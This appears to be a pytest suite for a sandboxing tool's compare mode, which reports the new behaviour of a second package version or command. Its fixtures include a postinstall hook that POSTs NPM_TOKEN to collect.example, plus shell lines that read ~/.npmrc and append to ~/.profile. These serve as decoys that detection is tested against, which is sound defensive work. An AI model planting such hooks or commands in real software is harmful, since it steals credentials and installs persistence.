"""``flycatcher try --compare``: what the second of two versions, or commands, does that the first does not."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from flycatcher.commands.try_.packages import lay_out, subject
from flycatcher.core.errors import FlycatcherError
from tests.commands.test_try import needs_sandbox

needs_npm = pytest.mark.skipif(
    shutil.which("npm", path="/usr/bin:/bin:/usr/local/bin") is None, reason="npm is not installed"
)


def compared(folder: Path, first: str, second: str, *options: str) -> subprocess.CompletedProcess[str]:
    for name in ("project", "home"):
        (folder / name).mkdir(exist_ok=True)
    words = [sys.executable, "-m", "flycatcher", "try", *options, "--compare", first, second]
    env = {**os.environ, "HOME": str(folder / "home")}
    return subprocess.run(
        words, cwd=folder / "project", env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=False
    )


def lines(ended: subprocess.CompletedProcess[str], begins: str = "") -> list[str]:
    found = (line.removeprefix("flycatcher: compare: ") for line in ended.stderr.splitlines() if ": compare: " in line)
    return [line for line in found if line.startswith(begins)]


@needs_sandbox
def test_two_commands_are_compared_by_what_they_run_and_leave(tmp_path: Path) -> None:
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / "one.sh").write_text('python3 -c "print(1)"\n')
    (tmp_path / "project" / "two.sh").write_text(
        'python3 -c "print(1)"\nperl -e "print 2"\necho x >> ~/.profile\ncat ~/.npmrc > kept\n'
    )
    ended = compared(tmp_path, "sh one.sh", "sh two.sh")
    assert ended.returncode == 10
    assert any(line.startswith("new: [none] perl argument: print 2  (by ") for line in lines(ended, "new:"))
    assert "new: decoy value found in a file of the project: kept: ~/.npmrc" in lines(ended)
    assert "new: home: added .profile" in lines(ended)
    assert any(line.startswith("new: persistence place touched ") for line in lines(ended))
    assert sorted(path.name for path in (tmp_path / "project").iterdir()) == ["one.sh", "two.sh"]


@needs_sandbox
def test_two_runs_of_one_command_differ_in_nothing(tmp_path: Path) -> None:
    command = "sh -c 'python3 -c \"print(1)\"; cat ~/.npmrc > kept; echo x > made'"
    ended = compared(tmp_path, command, command)
    assert (ended.returncode, lines(ended, "new:"), lines(ended, "gone:")) == (0, [], [])
    assert lines(ended)[-1] == f"{command} does nothing that {command} does not"


@needs_sandbox
def test_what_the_second_no_longer_does_is_said_and_is_nothing_new(tmp_path: Path) -> None:
    ended = compared(tmp_path, "sh -c 'perl -e 1; :'", "sh -c ':'")
    assert ended.returncode == 0
    assert [line[:35] for line in lines(ended, "gone:")][:1] == ["gone: [none] perl argument: 1  (by "]


def package(folder: Path, version: str, script: str) -> Path:
    folder.mkdir()
    about = {"name": "marker", "version": version, "scripts": {"postinstall": script}}
    (folder / "package.json").write_text(json.dumps(about))
    return folder


@needs_sandbox
@needs_npm
def test_the_new_behaviour_of_a_package_s_version_is_shown(tmp_path: Path) -> None:
    sends = "require('http').request({host:'collect.example',method:'POST',path:'/up'}).on('error',()=>0).end(process.env.NPM_TOKEN)"
    one = package(tmp_path / "one", "1.0.0", "node -e 'console.log(1)'")
    two = package(tmp_path / "two", "1.0.1", f"node -e 'console.log(1)' && node -e \"{sends}\"")
    ended = compared(tmp_path, str(one), str(two), "--network=loopback")
    assert ended.returncode == 10, ended.stderr[-2000:]
    new = lines(ended, "new:")
    assert [line for line in new if line.startswith("new: [medium] node argument: require('http')")]
    assert "(by npm, package marker, hook postinstall)" in new[0]
    assert "new: decoy NPM_TOKEN was sent to collect.example: POST /up" in new
    assert not [line for line in new if "node argument: console.log(1)" in line]


@needs_sandbox
def test_the_new_behaviour_of_a_source_distribution_is_shown(tmp_path: Path) -> None:
    has = subprocess.run(["/usr/bin/python3", "-c", "import pip, setuptools"], capture_output=True, check=False)
    if has.returncode:
        pytest.skip("the system's python3 has no pip and setuptools")
    for name, extra in (("one", ""), ("two", "import subprocess\nsubprocess.run(['perl', '-e', 'print 7'])\n")):
        (tmp_path / name).mkdir()
        (tmp_path / name / "setup.py").write_text(
            f"{extra}from setuptools import setup\nsetup(name='marker', version='1')\n"
        )
    ended = subprocess.run(
        [sys.executable, "-m", "flycatcher", "try", "--compare", str(tmp_path / "one"), str(tmp_path / "two")],
        cwd=tmp_path / "one",
        env={**os.environ, "HOME": str(tmp_path / "home-of-nobody"), "PATH": "/usr/bin:/bin"},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert ended.returncode == 10, ended.stderr[-2000:]
    assert len(lines(ended, "new: [")) == 1
    assert lines(ended, "new: ")[0].startswith("new: [none] perl argument: print 7  (by pip")


def test_a_package_of_a_registry_needs_the_host_s_network() -> None:
    with pytest.raises(FlycatcherError, match=r"npm:x@1\.0\.0 has to be fetched") as raised:
        subject("npm:x@1.0.0", "loopback")
    assert "npm pack x@1.0.0" in str(raised.value.hint)
    assert subject("npm:x@1.0.0", "host").words[-1] == "x@1.0.0"
    assert subject("pip:x==1", "host").words[-1] == "x==1"


def test_what_is_no_package_is_refused(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "file.txt").write_text("")
    for name in ("folder", "file.txt"):
        with pytest.raises(FlycatcherError, match="is no "):
            subject(str(tmp_path / name), "none")
    with pytest.raises(FlycatcherError, match="an empty command"):
        subject(" ", "none")


def test_a_folder_of_npm_is_packed_so_that_its_scripts_run(tmp_path: Path) -> None:
    source = package(tmp_path / "one", "1.0.0", "true")
    (tmp_path / "project").mkdir()
    lay_out(source, tmp_path / "project")
    shutil.unpack_archive(tmp_path / "project" / "package.tgz", tmp_path / "out")
    assert json.loads((tmp_path / "out" / "package" / "package.json").read_text())["version"] == "1.0.0"


def test_compare_takes_no_command(tmp_path: Path) -> None:
    ended = subprocess.run(
        [sys.executable, "-m", "flycatcher", "try", "--compare", "a", "b", "--", "true"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert ended.returncode == 2
    assert "--compare takes two sides" in ended.stderr
